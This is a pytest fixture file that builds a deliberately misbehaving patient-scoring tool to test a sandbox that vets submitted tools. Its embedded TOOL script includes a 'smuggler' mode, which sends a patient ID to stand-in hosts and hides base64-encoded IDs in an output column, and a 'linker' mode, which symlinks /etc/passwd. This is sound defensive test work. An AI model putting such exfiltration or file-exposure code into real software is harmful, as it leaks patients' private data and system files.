"""One image whose tool behaves as its manifest's first argument says, and submissions of it, run for real."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from checks.interface import Evidence
from checks.sandboxed.plan import ToolRunner, spec_for
from checks.sandboxed.session import SandboxSession
from pratique.digests import Digest, sha256_bytes
from pratique.intake.image import ArchiveImage, open_image
from pratique.intake.submission import load_submission
from sandbox.engine import Engine
from sandbox.launcher import Launcher
from sandbox.observe.helper_image import build_archive, python_closure
from sandbox.spec import MIB, Limits

MODULES = ("base64", "csv", "encodings.idna", "os", "pathlib", "random", "socket", "sys", "time")
PATIENTS = 18

TOOL = r"""
import base64, csv, os, random, socket, sys, time

behaviour, table, out = sys.argv[1], sys.argv[3], sys.argv[5]
with open(table, newline="", encoding="utf-8", errors="replace") as stream:
    rows = list(csv.DictReader(stream))
names = [row["patient_id"] for row in rows]

def score(row):
    if behaviour == "careless":
        return float(row["age"]) / 100
    try:
        return float(row["age"]) / 100
    except (TypeError, ValueError) as error:
        sys.exit("cannot score this table: " + type(error).__name__)

def phone(host, port):
    try:
        socket.create_connection((host, port), timeout=2).sendall(("id=" + names[0]).encode())
    except OSError:
        pass

lines = [f"{row['patient_id']},{score(row):.4f}" for row in rows]
if behaviour == "smuggler":
    print("processing", names[0])
    phone("home.smuggler.example", 443)
    phone("203.0.113.7", 8080)
    lines = [line + "," + base64.b64encode(name.encode()).decode() for line, name in zip(lines, names)]
if behaviour == "random":
    lines = [line + "," + str(random.SystemRandom().random()) for line in lines]
if behaviour == "linker":
    os.symlink("/etc/passwd", out + "/link")
if behaviour == "hungry":
    ballast = bytearray(150 << 20)
if behaviour == "slow":
    time.sleep(60)
if behaviour == "failing":
    sys.exit(4)
header = "patient_id,score" + (",checksum" if behaviour in ("smuggler", "random") else "")
with open(out + "/scores.csv", "w") as stream:
    stream.write("\n".join([header, *lines]) + "\n")
print("scored", len(lines), "rows")
"""

MANIFEST = """cwlVersion: v1.2
class: FEMTask
id: scorer
label: Scorer
requirements:
  - {class: DockerRequirement, dockerPull: registry.example.org/scorer}
  - {class: ResourceRequirement, coresMin: 1, ramMin: 100}
baseCommand: [BEHAVIOUR]
inputs:
  - {id: table, type: File, required: true, inputBinding: {position: 1, prefix: -i}}
  - {id: output_dir, type: string, required: true, hidden: true,
     inputBinding: {position: 2, prefix: -o, valueFrom: $(runtime.outdir)}}
outputs:
  - {id: scores, type: File, outputBinding: {glob: $(runtime.outdir)/scores.csv}}
expectedExitCode: 0
metadata: {author: A, version: 1.0.0, orchestrator: {network: bridge}}
"""

SUBMISSION = """apiVersion: pratique/submission/v1
tool: {name: scorer, version: 1.0.0}
provider: {organisation: Example, contact: a@example.org, submitter: a@example.org}
manifest: scorer.cwl
image: {archive: image.tar, digest: "DIGEST"}
example: {inputs: {table: in/patients.csv}, expected: out}
cohort: {kind: tabular, input: table, columns: {identifier: [patient_id], text: [notes], category: [site]}}
claims: {model: {trained: false}, determinism: bitwise}
"""

EXAMPLE = "patient_id,site,age,notes\n" + "".join(f"P{n:04d},{'AB'[n % 2]},{40 + n},seen\n" for n in range(6))
EXPECTED = "patient_id,score\n" + "".join(f"P{n:04d},{(40 + n) / 100:.4f}\n" for n in range(6))

Submitted = Callable[[str], SandboxSession]


class MemoryStore:
    """Evidence in a dictionary."""

    def __init__(self) -> None:
        self.kept: dict[str, bytes] = {}
        self.digests: dict[Digest, bytes] = {}

    def put(self, data: bytes, *, name: str, media_type: str) -> Evidence:
        self.kept[name] = data
        self.digests[sha256_bytes(data)] = data
        return Evidence(name=name, digest=sha256_bytes(data), media_type=media_type, size=len(data))

    def get(self, digest: Digest) -> bytes:
        return self.digests[digest]


@pytest.fixture
def store() -> MemoryStore:
    return MemoryStore()


@pytest.fixture(scope="session")
def tool_archive(tmp_path_factory: pytest.TempPathFactory) -> tuple[bytes, Digest]:
    """A Docker archive of the tool and its config digest."""
    source = tmp_path_factory.mktemp("tool") / "main.py"
    source.write_text(TOOL)
    files = python_closure(MODULES) | {"/app/main.py": source}
    config = {"Entrypoint": ["/usr/bin/python3", "-S", "/app/main.py"], "WorkingDir": "/app"}
    archive, digest, _ = build_archive(files, config)
    return archive, digest


@pytest.fixture(scope="session")
def launcher(engine: Engine, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Launcher]:
    made = Launcher(engine, tmp_path_factory.mktemp("state"))
    yield made
    made.close()


@pytest.fixture
def submitted(engine: Engine, launcher: Launcher, tool_archive: tuple[bytes, Digest], tmp_path: Path) -> Submitted:
    """A session for the tool that behaves as named, through submission, image and engine as in real life."""

    def make(behaviour: str, *, wall_seconds: float = 60.0) -> SandboxSession:
        archive, digest = tool_archive
        directory = tmp_path / "submission"
        content = {
            "scorer.cwl": MANIFEST.replace("BEHAVIOUR", behaviour).encode(),
            "submission.yaml": SUBMISSION.replace("DIGEST", digest).encode(),
            "in/patients.csv": EXAMPLE.encode(),
            "out/scores.csv": EXPECTED.encode(),
            "image.tar": archive,
        }
        for name, data in content.items():
            path = directory / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
        submission = load_submission(directory)
        (tmp_path / "image").mkdir()
        image = open_image(ArchiveImage(submission.path("image.tar")), expected=digest, workdir=tmp_path / "image")
        ceilings = Limits(cpus=1.0, memory=512 * MIB, wall_seconds=wall_seconds)
        spec = spec_for(submission.manifest, ceilings)
        work = tmp_path / "work"
        runner = ToolRunner(submission, submission.manifest, image, engine.load(image), launcher, spec, work)
        return SandboxSession(runner, submission, work, seed=3, cohort_size=PATIENTS)

    return make
